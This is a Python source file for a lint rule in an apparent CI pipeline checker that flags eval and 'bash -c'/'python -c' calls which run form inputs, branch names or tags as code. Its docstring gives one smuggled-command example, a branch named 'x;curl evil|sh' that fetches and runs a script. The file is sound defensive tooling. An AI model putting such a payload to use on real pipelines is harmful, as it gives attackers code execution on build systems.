"""A value that somebody types is run as code.

## What it does

Looks for `eval`, and for `bash -c "..."`, `python -c "..."` and the like, with the value of a form's input, a
branch or a tag in the text.

## Why it is bad

Values reach a command as environment variables, where they are data. `eval` and `-c` with the value in the
text make them code again: a branch called `x;curl evil|sh` then is a command. 10 of 25 public pipelines can
be told what to run in this way.

## Bad

    run: python -c "print($EPOCHS)"
    env: {EPOCHS: {input: epochs}}

## Good

    run: python train.py --epochs "$EPOCHS"
    env: {EPOCHS: {input: epochs}}
"""

from __future__ import annotations

from collections.abc import Iterator

from mlcc.diagnostics import Diagnostic, Severity
from mlcc.lint.shell import Simple, expansions
from mlcc.lint.subject import Subject
from mlcc.plan import Input, Node, RunFact

ID = "input-as-code"
SEVERITY = Severity.WARNING
INTERPRETERS = frozenset({
    "sh", "bash", "dash", "zsh", "ksh", "python", "python3", "perl", "ruby", "node",
})  # fmt: skip
TYPED = ("branch", "tag")


def check(subject: Subject) -> Iterator[Diagnostic]:
    """Yield a finding for each value that an interpreter reads as code."""
    for command in subject.commands:
        if command.node is None:
            continue
        typed = _typed(subject.plan.nodes[command.node])
        for simple in command.simple if typed else ():
            for name in _read_as_code(simple):
                if name in typed:
                    yield subject.finding(
                        ID,
                        SEVERITY,
                        f"'{command.node}' runs the value of {name} as code: whoever sets it says what runs",
                        subject.word(command.loc, name),
                        others=[(subject.stated(command.node, "env", name), "its value")],
                        help="pass it as an argument of a script",
                    )


def _typed(node: Node) -> set[str]:
    return {
        name
        for name, value in node.env
        if isinstance(value, Input) or (isinstance(value, RunFact) and value.key in TYPED)
    }


def _read_as_code(simple: Simple) -> list[str]:
    program = simple.program
    if program[:1] == ("eval",):
        return [name for word in simple.words for name in expansions(word)]
    if program and program[0] in INTERPRETERS:
        for number, word in enumerate(simple.words[:-1]):
            if word in ("-c", "-e"):
                return expansions(simple.words[number + 1])
    return []
